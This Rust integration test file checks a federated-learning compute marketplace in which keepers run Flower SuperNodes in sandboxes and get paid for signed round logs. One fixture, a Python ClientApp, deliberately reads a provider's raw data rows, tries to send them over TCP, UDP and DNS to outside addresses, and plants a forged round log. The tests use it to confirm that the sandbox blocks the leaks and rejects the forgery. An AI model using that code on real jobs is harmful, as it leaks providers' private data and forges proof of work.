//! Federated learning through keepers, against a real anvil node, real sandboxes and a real
//! Flower SuperLink: three providers each publish one partition of the example data set at their
//! own keeper, sold for federated compute; the consumer buys all three, orders each job with its
//! aggregator's address, registers the SuperNode keys the keepers show, and trains the example
//! app; each keeper serves its rounds, signs its round log and is paid. Needs what the compute
//! tests need, plus the Flower environment of `script/flower-deps.sh`.

mod common;

use std::{
    path::{Path, PathBuf},
    process::Stdio,
    time::Duration,
};

use alloy::{
    primitives::{Address, B256, U256, hex},
    signers::local::PrivateKeySigner,
};
use insitu_bindings::rounds::SignedRoundLog;
use insitu_client::{
    compute::{self, JobStatus, Order},
    devnet::Devnet,
    federated,
    market::{self, KeeperClient},
    metadata::ServiceKind,
    suite::Suite,
    tx::Silent,
};
use insitu_keeper::config::{ComputeConfig, Config, FlowerRuntime, RuntimeConfig};

use common::{KeeperProcess, sandbox_init};

const PRICE: u128 = 10_000_000_000_000_000_000;
const PROVIDERS: usize = 3;

/// The repository's root.
fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

/// The Flower environment (made by `script/flower-deps.sh`).
fn venv() -> PathBuf {
    let venv = root().join("target/flower-venv");
    assert!(
        venv.join("bin/flower-supernode").exists(),
        "no Flower environment at {}: run script/flower-deps.sh",
        venv.display()
    );
    venv
}

/// Runs a program of the Flower environment on the host, with `home` as its Flower home.
fn flower(program: &str, home: &Path) -> tokio::process::Command {
    let venv = venv();
    let mut command = tokio::process::Command::new(venv.join("bin").join(program));
    command
        .env(
            "PATH",
            format!("{}:/usr/bin:/bin", venv.join("bin").display()),
        )
        .env("FLWR_HOME", home)
        .current_dir(home)
        .kill_on_drop(true);
    command
}

/// Runs a Python script of the Flower environment with `arguments`, the example app importable;
/// returns its standard output.
async fn python(home: &Path, script: &Path, arguments: &[&str]) -> Vec<u8> {
    let output = flower("python", home)
        .env("PYTHONPATH", example_app())
        .arg(script)
        .args(arguments)
        .output()
        .await
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

/// The example app's folder.
fn example_app() -> PathBuf {
    root().join("examples/federated/app")
}

/// The consumer's tools of the example (FAB, TLS, baseline).
fn consumer_tools() -> PathBuf {
    root().join("examples/federated/consumer_tools.py")
}

/// The app at `app` as Flower sends it to SuperNodes (its FAB): what the consumer orders.
async fn build_fab(home: &Path, app: &Path) -> Vec<u8> {
    let out = home.join(format!("{}.fab", rand::random::<u64>()));
    python(
        home,
        &consumer_tools(),
        &["fab", app.to_str().unwrap(), out.to_str().unwrap()],
    )
    .await;
    std::fs::read(&out).unwrap()
}

/// The consumer's side: its Flower home, its SuperLink over TLS with SuperNode authentication,
/// and the authority's certificate.
struct Aggregator {
    home: PathBuf,
    port: u16,
    ca: String,
    _superlink: tokio::process::Child,
}

impl Aggregator {
    async fn start(folder: &Path) -> Self {
        let home = folder.join("consumer");
        let tls = folder.join("tls");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::create_dir_all(&tls).unwrap();
        python(&home, &consumer_tools(), &["tls", tls.to_str().unwrap()]).await;
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let log = std::fs::File::create(folder.join("superlink.log")).unwrap();
        let superlink = flower("python", &home)
            .env("PYTHONPATH", example_app())
            .arg(consumer_tools())
            .arg("superlink")
            .arg(&tls)
            .arg(port.to_string())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap();
        std::fs::write(
            home.join("config.toml"),
            format!(
                "[superlink]\ndefault = \"consumer\"\n\n[superlink.consumer]\naddress = \
                 \"127.0.0.1:{port}\"\nroot-certificates = \"{}\"\n",
                tls.join("ca.pem").display()
            ),
        )
        .unwrap();
        for _ in 0..300 {
            if tokio::net::TcpStream::connect(("127.0.0.1", port))
                .await
                .is_ok()
            {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        Self {
            home,
            port,
            ca: std::fs::read_to_string(tls.join("ca.pem")).unwrap(),
            _superlink: superlink,
        }
    }

    /// Registers a SuperNode's public key with the SuperLink.
    async fn register(&self, key: &str) {
        let file = self
            .home
            .join(format!("{}.pub", hex::encode(&key.as_bytes()[..8])));
        std::fs::write(&file, key).unwrap();
        let registered = flower("flwr", &self.home)
            .args(["supernode", "register"])
            .arg(&file)
            .arg("consumer")
            .output()
            .await
            .unwrap();
        assert!(
            registered.status.success(),
            "{}{}",
            String::from_utf8_lossy(&registered.stdout),
            String::from_utf8_lossy(&registered.stderr)
        );
    }

    /// Runs the app at `app` for `rounds` rounds across at least `nodes` SuperNodes, waiting at
    /// most `round_timeout` seconds for a round's replies, and hands each line `flwr run`
    /// prints to `on_line` as it comes; returns what the ServerApp wrote (`rounds.json`) and
    /// everything printed, or nothing if the run did not end within five minutes.
    async fn run(
        &self,
        app: &Path,
        rounds: u32,
        nodes: usize,
        round_timeout: u32,
        on_line: &mut (dyn FnMut(&str) + Send),
    ) -> Option<(serde_json::Value, String)> {
        use tokio::io::AsyncBufReadExt;
        let output = self.home.join("result");
        let mut child = flower("flwr", &self.home)
            .arg("run")
            .arg(app)
            .arg("consumer")
            .arg("--stream")
            .arg("--run-config")
            .arg(format!(
                "num-server-rounds={rounds} min-nodes={nodes} round-timeout={round_timeout} \
                 output-dir=\"{}\"",
                output.display()
            ))
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let (sender, mut lines) = tokio::sync::mpsc::unbounded_channel::<String>();
        let stdout = tokio::io::BufReader::new(child.stdout.take().unwrap());
        let stderr = tokio::io::BufReader::new(child.stderr.take().unwrap());
        for mut reader in [
            Box::pin(stdout) as std::pin::Pin<Box<dyn tokio::io::AsyncBufRead + Send>>,
            Box::pin(stderr),
        ] {
            let sender = sender.clone();
            tokio::spawn(async move {
                let mut line = String::new();
                while reader.read_line(&mut line).await.unwrap_or(0) > 0 {
                    let _ = sender.send(std::mem::take(&mut line));
                }
            });
        }
        drop(sender);
        let mut printed = String::new();
        let followed = async {
            while let Some(line) = lines.recv().await {
                on_line(&line);
                printed.push_str(&line);
            }
            child.wait().await.unwrap()
        };
        let status = tokio::time::timeout(Duration::from_secs(300), followed)
            .await
            .ok()?;
        assert!(status.success(), "{printed}");
        let written = std::fs::read(output.join("rounds.json")).unwrap();
        Some((serde_json::from_slice(&written).unwrap(), printed))
    }
}

/// One provider: its keeper, a process of its own (its own account, store, data and work
/// folders), and its partition.
struct Provider {
    key: PrivateKeySigner,
    /// Dropping it kills the keeper (SIGKILL), and its sandboxed SuperNode with it.
    keeper: Option<KeeperProcess>,
    url: String,
    root: PathBuf,
}

struct World {
    _devnet: Devnet,
    _dir: tempfile::TempDir,
    keys: Vec<PrivateKeySigner>,
    suite: Suite,
    token: Address,
    providers: Vec<Provider>,
    fab: Vec<u8>,
    any_app: bool,
    aggregator: Aggregator,
}

/// Anvil's accounts the keepers use: 2 (as in the other tests), then 4 and 5.
const KEEPER_ACCOUNTS: [usize; PROVIDERS] = [2, 4, 5];

/// `count` keepers (at most three), each with one partition; their policies allow the example
/// app only, or, with `any_app`, any app.
async fn world(count: usize, any_app: bool) -> World {
    let devnet = Devnet::start().expect("anvil");
    let common::Deployed {
        dir,
        addresses,
        keys,
        suite,
        token,
        ..
    } = common::deploy(&devnet, None, U256::from(PRICE) * U256::from(10)).await;
    let folder = dir.path().to_path_buf();
    let aggregator = Aggregator::start(&folder).await;
    let partitions = folder.join("partitions");
    python(
        &aggregator.home,
        &root().join("examples/federated/make_partitions.py"),
        &[partitions.to_str().unwrap()],
    )
    .await;
    let fab = build_fab(&aggregator.home, &example_app()).await;
    let mut providers = Vec::new();
    for (index, account) in KEEPER_ACCOUNTS.into_iter().take(count).enumerate() {
        let root_k = folder.join(format!("keeper-{index}"));
        std::fs::create_dir_all(root_k.join("data")).unwrap();
        std::fs::copy(
            partitions.join(format!("provider-{index}/data.csv")),
            root_k.join("data/data.csv"),
        )
        .unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let config = Config {
            rpc_url: devnet.endpoint(),
            chain_id: 31_337,
            addresses: addresses.clone(),
            confirmations: 0,
            poll_interval_ms: 100,
            listen: format!("127.0.0.1:{port}"),
            database: root_k.join("keeper.db"),
            data_root: root_k.join("data"),
            publishers: vec![keys[1].address()],
            compute: Some(ComputeConfig {
                work_root: root_k.join("compute"),
                grace_secs: 1,
                sandbox_init: Some(sandbox_init()),
                runtimes: vec![RuntimeConfig {
                    name: "flower".into(),
                    command: Vec::new(),
                    description: "Flower 1.41.0 SuperNode with numpy".into(),
                    image: None,
                    flower: Some(FlowerRuntime {
                        environment: venv(),
                        package: root().join("federated"),
                        // The consumer's aggregator runs on this machine.
                        aggregators_allow: vec!["127.0.0.0/8".parse().unwrap()],
                    }),
                }],
                ..ComputeConfig::default()
            }),
            ..Config::default()
        };
        let file = root_k.join("keeper.toml");
        std::fs::write(&file, config.to_string()).unwrap();
        let url = format!("http://127.0.0.1:{port}");
        let keeper = KeeperProcess::start(&file, &keys[account], &url).await;
        providers.push(Provider {
            key: keys[account].clone(),
            keeper: Some(keeper),
            url,
            root: root_k,
        });
    }
    World {
        _devnet: devnet,
        _dir: dir,
        keys,
        suite,
        token,
        providers,
        fab,
        any_app,
        aggregator,
    }
}

/// The federated compute policy: only the example app, by its SHA-256.
fn policy(fab: &[u8], any_app: bool) -> serde_json::Value {
    let sha256 = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(fab));
    serde_json::json!({
        "algorithms": {"any": any_app, "sha256": [sha256]},
        "runtimes": ["flower"],
        "limits": {
            "wallSecs": 300, "memoryMb": 1024, "cpuPercent": 100, "pids": 256,
            "outputMb": 4, "tmpMb": 256, "logKb": 256
        },
        "logs": "consumer",
        "resultRetentionDays": 30
    })
}

impl World {
    fn consumer(&self) -> insitu_client::tx::Sender {
        common::suite_sender(&self.suite, &self.keys[3])
    }

    /// Publishes provider `index`'s partition at its keeper (keys[1] publishes, is paid).
    async fn publish(&self, index: usize) -> B256 {
        let provider = &self.providers[index];
        let file = provider.root.join("data/data.csv");
        let bytes = std::fs::read(&file).unwrap();
        let source = serde_json::to_vec(&serde_json::json!({
            "@context": "https://schema.org",
            "@type": "Dataset",
            "schemaVersion": "insitu-metadata/1",
            "name": format!("Partition {index}"),
            "description": "One provider's rows of the example classification table.",
            "author": format!("Provider {index}"),
            "license": "LicenseRef-compute-only",
            "files": [{
                "name": "data.csv",
                "contentType": "text/csv",
                "contentSize": bytes.len(),
                "sha256": hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&bytes)),
                "location": format!("file://{}", file.display()),
            }],
            "services": [{
                "type": "compute",
                "token": self.token.to_string(),
                "price": [{"receiver": self.keys[1].address().to_string(), "amount": PRICE.to_string()}],
                "timeout": {"min": 3600, "max": 86400},
                "compute": policy(&self.fab, self.any_app)
            }]
        }))
        .unwrap();
        market::publish(
            &self.suite,
            &common::suite_sender(&self.suite, &self.keys[1]),
            &KeeperClient::new(&provider.url),
            &source,
            B256::from(rand::random::<[u8; 32]>()),
            &Silent,
        )
        .await
        .unwrap()
        .did
    }

    /// Buys federated compute on every asset of `dids`; returns the agreements.
    async fn buy_all(&self, dids: &[B256]) -> Vec<B256> {
        market::buy_many(
            &self.suite,
            &self.consumer(),
            dids,
            ServiceKind::Compute,
            0,
            &Silent,
        )
        .await
        .unwrap()
        .into_iter()
        .map(|bought| bought.quote.agreement_id)
        .collect()
    }

    /// The order of app `fab` (the example's when `None`) for `rounds` rounds.
    fn order(&self, rounds: u32, fab: Option<&[u8]>) -> Order {
        let aggregator = federated::Aggregator {
            address: format!("127.0.0.1:{}", self.aggregator.port),
            ca_pem: self.aggregator.ca.clone(),
        };
        federated::order(
            fab.unwrap_or(&self.fab).to_vec(),
            "flower",
            &aggregator,
            rounds,
        )
    }

    /// Follows the job of agreement `id` until it reaches one of `phases` (or ends).
    async fn wait_for(&self, id: B256, phases: &[&str]) -> JobStatus {
        let mut seen = |_: &JobStatus| {};
        tokio::time::timeout(
            Duration::from_secs(300),
            compute::follow(
                &self.suite,
                &self.consumer(),
                id,
                phases,
                Duration::from_millis(200),
                &mut seen,
            ),
        )
        .await
        .expect("the job never got there")
        .unwrap()
    }

    /// Prints what each job and the SuperLink said, to explain a run that did not end.
    async fn explain(&self, agreements: &[(B256, B256)]) {
        for (_, id) in agreements {
            let status = compute::status(&self.suite, &self.consumer(), *id).await;
            let logs = compute::logs(&self.suite, &self.consumer(), *id).await;
            eprintln!("job {id}: {status:?}\n{}", logs.unwrap_or_default());
        }
        let superlink = self.aggregator.home.parent().unwrap().join("superlink.log");
        eprintln!(
            "superlink:\n{}",
            std::fs::read_to_string(superlink).unwrap_or_default()
        );
    }

    /// Waits until job `id`'s SuperNode has been refused by the SuperLink (its key is not
    /// registered yet) and says it tries again.
    async fn refused_once(&self, id: B256) {
        for _ in 0..600 {
            let logs = compute::logs(&self.suite, &self.consumer(), id)
                .await
                .unwrap_or_default();
            if logs.contains("did not admit this SuperNode yet") {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let logs = compute::logs(&self.suite, &self.consumer(), id).await;
        panic!("job {id}'s SuperNode was never refused: {logs:?}");
    }

    /// The SuperNode key job `id` shows once it runs.
    async fn supernode_key(&self, id: B256) -> String {
        federated::supernode_key(&self.suite, &self.consumer(), id, Duration::from_secs(60))
            .await
            .unwrap()
    }
}

/// Transactions `account` has sent.
async fn transactions(world: &World, account: Address) -> u64 {
    alloy::providers::Provider::get_transaction_count(world.suite.provider(), account)
        .await
        .unwrap()
}

/// The signed round log a keeper stored as the result of agreement `id`.
fn round_log(provider: &Provider, id: B256) -> SignedRoundLog {
    let stored = provider
        .root
        .join("data/results/31337")
        .join(id.to_string())
        .join("round-log.json");
    serde_json::from_slice(&std::fs::read(&stored).unwrap()).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_keepers_train_the_example_model_and_each_is_paid_for_its_rounds() {
    let world = world(PROVIDERS, false).await;
    // One agreement and one escrow per provider, each on its provider's offer: one approval of
    // the sum, then one purchase each; each job shows its own SuperNode key, which the consumer
    // registers with its SuperLink.
    let before = transactions(&world, world.keys[3].address()).await;
    let agreements = order_all(&world, 3, None).await;
    assert_eq!(
        transactions(&world, world.keys[3].address()).await - before,
        PROVIDERS as u64 + 1
    );

    let Some((rounds, printed)) = world
        .aggregator
        .run(&example_app(), 3, PROVIDERS, 600, &mut |_| {})
        .await
    else {
        world.explain(&agreements).await;
        panic!("the run did not end within five minutes");
    };
    let rounds = rounds["rounds"].as_array().unwrap().clone();
    assert_eq!(rounds.len(), 3, "{printed}");
    assert!(rounds[2]["accuracy"].as_f64().unwrap() > 0.8, "{rounds:?}");
    assert_eq!(
        printed.matches("Received 3 results and 0 failures").count(),
        6,
        "{printed}"
    );

    for ((did, id), provider) in agreements.iter().zip(&world.providers) {
        let done = world.wait_for(*id, &[]).await;
        assert_eq!(done.phase, "done", "{done:?}");
        let egress = &done.outcome.as_ref().unwrap()["egress"];
        assert!(egress["sentBytes"].as_u64().unwrap() > 0, "{done:?}");
        // The keeper's signed log of the rounds it served: three updates, each from its 480
        // training rows, signed by its account for this agreement.
        let log = round_log(provider, *id);
        let domain =
            insitu_bindings::requests::domain(31_337, world.suite.addresses.compute_execution);
        assert_eq!(log.verify(&domain).unwrap(), provider.key.address());
        assert_eq!(log.log.agreementId, *id);
        assert_eq!(log.log.did, *did);
        assert_eq!(log.log.rounds.len(), 3);
        assert!(log.log.rounds.iter().all(|round| round.samples == 480));
        // Paid: the compute condition fulfilled, the payment released.
        let agreement = insitu_client::agreement::show(&world.suite, *id, None)
            .await
            .unwrap();
        assert_eq!(
            agreement.payment_condition().unwrap().state,
            insitu_client::agreement::ConditionState::Released
        );
        assert_eq!(
            agreement.service_condition().unwrap().state,
            insitu_client::agreement::ConditionState::Fulfilled
        );
    }
}

/// Buys from every provider, orders each job for `rounds` rounds and lets each SuperNode into the
/// consumer's SuperLink; returns the assets and agreements, in the providers' order.
async fn order_all(world: &World, rounds: u32, fab: Option<&[u8]>) -> Vec<(B256, B256)> {
    let mut dids = Vec::new();
    for index in 0..world.providers.len() {
        dids.push(world.publish(index).await);
    }
    let agreements: Vec<(B256, B256)> = dids
        .iter()
        .copied()
        .zip(world.buy_all(&dids).await)
        .collect();
    for (_, id) in &agreements {
        compute::submit(
            &world.suite,
            &world.consumer(),
            *id,
            &world.order(rounds, fab),
        )
        .await
        .unwrap();
    }
    let mut keys = Vec::new();
    for (index, (_, id)) in agreements.iter().enumerate() {
        let key = world.supernode_key(*id).await;
        assert!(key.starts_with("ecdsa-sha2-nistp384 "), "{key}");
        assert!(!keys.contains(&key), "a key per job");
        if index == 0 {
            // The first SuperNode is refused before its key is registered: it tries again.
            world.refused_once(*id).await;
        }
        world.aggregator.register(&key).await;
        keys.push(key);
    }
    agreements
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_provider_killed_mid_training_is_not_paid_and_refunded_while_the_others_are_paid() {
    let mut world = world(PROVIDERS, false).await;
    let agreements = order_all(&world, 3, None).await;
    let token = insitu_bindings::MockERC20::new(world.token, world.suite.provider());

    // The third provider's keeper is killed once the first round's updates are in; the run goes
    // on with the two others (a round waits 20 s for a missing reply).
    let mut victim = world.providers[2].keeper.take();
    let mut kill_after_first_round = |line: &str| {
        if line.contains("aggregate_train: Received 3 results") {
            victim.take();
        }
    };
    let run = world
        .aggregator
        .run(&example_app(), 3, 2, 20, &mut kill_after_first_round)
        .await;
    let Some((rounds, printed)) = run else {
        world.explain(&agreements).await;
        panic!("the run did not end within five minutes");
    };
    let rounds = rounds["rounds"].as_array().unwrap().clone();
    assert_eq!(rounds.len(), 3, "{printed}");
    assert!(printed.contains("Received 2 results"), "{printed}");

    // The two others served their three rounds and are paid.
    let domain = insitu_bindings::requests::domain(31_337, world.suite.addresses.compute_execution);
    for ((_, id), provider) in agreements.iter().zip(&world.providers).take(2) {
        let done = world.wait_for(*id, &[]).await;
        assert_eq!(done.phase, "done", "{done:?}");
        let log = round_log(provider, *id);
        assert_eq!(log.verify(&domain).unwrap(), provider.key.address());
        assert_eq!(log.log.rounds.len(), 3);
        let agreement = insitu_client::agreement::show(&world.suite, *id, None)
            .await
            .unwrap();
        assert_eq!(
            agreement.payment_condition().unwrap().state,
            insitu_client::agreement::ConditionState::Released
        );
    }

    // The third is not: its payment stays in escrow until the service times out, then goes back
    // to the consumer.
    let (_, dropped) = agreements[2];
    let before = insitu_client::agreement::show(&world.suite, dropped, None)
        .await
        .unwrap();
    assert_eq!(
        before.payment_condition().unwrap().state,
        insitu_client::agreement::ConditionState::Fulfilled,
        "paid into escrow, not released"
    );
    assert_eq!(
        before.service_condition().unwrap().state,
        insitu_client::agreement::ConditionState::Unfulfilled
    );
    let consumer = world.keys[3].address();
    let balance = token.balanceOf(consumer).call().await.unwrap();
    common::node_rpc(
        world.suite.provider(),
        "evm_increaseTime",
        serde_json::json!([86_400 + 1]),
    )
    .await;
    common::node_rpc(world.suite.provider(), "evm_mine", serde_json::json!([])).await;
    insitu_client::payments::refund(&world.suite, &world.consumer(), dropped, &Silent)
        .await
        .unwrap();
    let after = insitu_client::agreement::show(&world.suite, dropped, None)
        .await
        .unwrap();
    assert_eq!(
        after.payment_condition().unwrap().state,
        insitu_client::agreement::ConditionState::Refunded
    );
    assert_eq!(
        token.balanceOf(consumer).call().await.unwrap() - balance,
        U256::from(PRICE)
    );
}

/// A ClientApp that tries, each round, to send its provider's raw rows out: to a listener on
/// the host's loopback at port `{port}`, to public IPv4 and IPv6 addresses, over UDP, and by
/// name; it reports how many attempts got through as a metric, leaves a forged round log in
/// `/output`, and trains as the example does.
const EXFILTRATING_CLIENT: &str = r#"
import socket
from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp
from insitu_fedlr import model

app = ClientApp()


def steal():
    rows = open(model.find_data(), "rb").read()
    reached = 0
    for family, kind, target in [
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {port})),
        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 80)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
    ]:
        try:
            out = socket.socket(family, kind)
            out.settimeout(3)
            out.connect(target)
            out.sendall(rows)
            reached += 1
        except OSError as error:
            print("exfiltration blocked:", target, error, flush=True)
    try:
        socket.getaddrinfo("example.com", 443)
        reached += 1
    except OSError as error:
        print("exfiltration blocked: dns", error, flush=True)
    return reached


@app.train()
def train(message: Message, context: Context) -> Message:
    reached = steal()
    # And a round log of its own making, where the keeper's would be published from.
    try:
        with open("/output/round-log.json", "w") as forged:
            forged.write('{"log": {"rounds": 1000}, "signature": "0x00"}')
    except OSError as error:
        print("forgery not written:", error, flush=True)
    (x, y), _ = model.split(*model.load(model.find_data()))
    weights = message.content["arrays"].to_numpy_ndarrays()[0]
    weights = model.train(weights, x, y, 5, 0.3)
    metrics = MetricRecord({"num-examples": len(y), "exfiltrated": reached})
    return Message(
        content=RecordDict({"arrays": ArrayRecord([weights]), "metrics": metrics}),
        reply_to=message,
    )


@app.evaluate()
def evaluate(message: Message, context: Context) -> Message:
    _, (x, y) = model.split(*model.load(model.find_data()))
    weights = message.content["arrays"].to_numpy_ndarrays()[0]
    metrics = MetricRecord({"num-examples": len(y), "accuracy": model.accuracy(weights, x, y)})
    return Message(content=RecordDict({"metrics": metrics}), reply_to=message)
"#;

/// A copy of the example app in `folder` whose ClientApp is `client`; returns the folder and the
/// app as Flower sends it (its FAB).
async fn variant_app(world: &World, folder: &Path, client: &str) -> (PathBuf, Vec<u8>) {
    let app = folder.join("app");
    std::fs::create_dir_all(app.join("insitu_fedlr")).unwrap();
    let example = example_app();
    std::fs::copy(example.join("pyproject.toml"), app.join("pyproject.toml")).unwrap();
    for file in ["__init__.py", "model.py", "server_app.py"] {
        std::fs::copy(
            example.join("insitu_fedlr").join(file),
            app.join("insitu_fedlr").join(file),
        )
        .unwrap();
    }
    std::fs::write(app.join("insitu_fedlr/client_app.py"), client).unwrap();
    let fab = build_fab(&world.aggregator.home, &app).await;
    (app, fab)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_clientapp_that_sends_raw_data_out_reaches_only_the_aggregator() {
    // The provider allows any app: the sandbox alone must hold the rows in.
    let world = world(1, true).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let folder = tempfile::tempdir().unwrap();
    let client = EXFILTRATING_CLIENT.replace("{port}", &port.to_string());
    let (app, fab) = variant_app(&world, folder.path(), &client).await;
    let agreements = order_all(&world, 2, Some(&fab)).await;
    let Some((rounds, printed)) = world.aggregator.run(&app, 2, 1, 600, &mut |_| {}).await else {
        world.explain(&agreements).await;
        panic!("the run did not end within five minutes");
    };
    assert_eq!(rounds["rounds"].as_array().unwrap().len(), 2, "{printed}");
    // Every attempt failed, in both rounds, and nothing reached the host's listener.
    assert_eq!(
        printed.matches("'exfiltrated': '0.0000e+00'").count(),
        2,
        "{printed}"
    );
    assert!(
        tokio::time::timeout(Duration::from_millis(200), listener.accept())
            .await
            .is_err()
    );
    let (_, id) = agreements[0];
    let done = world.wait_for(id, &[]).await;
    assert_eq!(done.phase, "done", "{done:?}");
    // The result is the keeper's own signed log, not the job's forgery (left out).
    let domain = insitu_bindings::requests::domain(31_337, world.suite.addresses.compute_execution);
    let log = round_log(&world.providers[0], id);
    assert_eq!(
        log.verify(&domain).unwrap(),
        world.providers[0].key.address()
    );
    assert_eq!(log.log.rounds.len(), 2);
    let skipped = &done.result.as_ref().unwrap()["skipped"];
    assert!(
        skipped
            .as_array()
            .unwrap()
            .iter()
            .any(|name| name == "round-log.json"),
        "{skipped}"
    );
    let logs = compute::logs(&world.suite, &world.consumer(), id)
        .await
        .unwrap();
    assert_eq!(
        logs.matches("exfiltration blocked").count(),
        10,
        "five attempts in each of two rounds: {logs}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_supernode_refuses_an_app_other_than_the_one_ordered() {
    let world = world(1, false).await;
    // Ordered: the example app (the only one the provider allows). Sent by the aggregator:
    // another one.
    let agreements = order_all(&world, 2, None).await;
    let folder = tempfile::tempdir().unwrap();
    let client = EXFILTRATING_CLIENT.replace("{port}", "9");
    let (other, _) = variant_app(&world, folder.path(), &client).await;
    let (_, id) = agreements[0];
    let mut ignore = |_: &str| {};
    let failed = tokio::select! {
        failed = world.wait_for(id, &["failed"]) => failed,
        _ = world.aggregator.run(&other, 2, 1, 20, &mut ignore) => {
            world.wait_for(id, &["failed"]).await
        }
    };
    assert_eq!(failed.phase, "failed", "{failed:?}");
    assert_eq!(
        failed.outcome.as_ref().unwrap()["exitCode"],
        3,
        "{failed:?}"
    );
    let logs = compute::logs(&world.suite, &world.consumer(), id)
        .await
        .unwrap();
    assert!(logs.contains("refused app"), "{logs}");
    assert!(
        !logs.contains("exfiltration"),
        "the other app never ran: {logs}"
    );
    // Not served: the payment stays in escrow (the consumer is refunded after the time out).
    let agreement = insitu_client::agreement::show(&world.suite, id, None)
        .await
        .unwrap();
    assert_eq!(
        agreement.payment_condition().unwrap().state,
        insitu_client::agreement::ConditionState::Fulfilled
    );
}
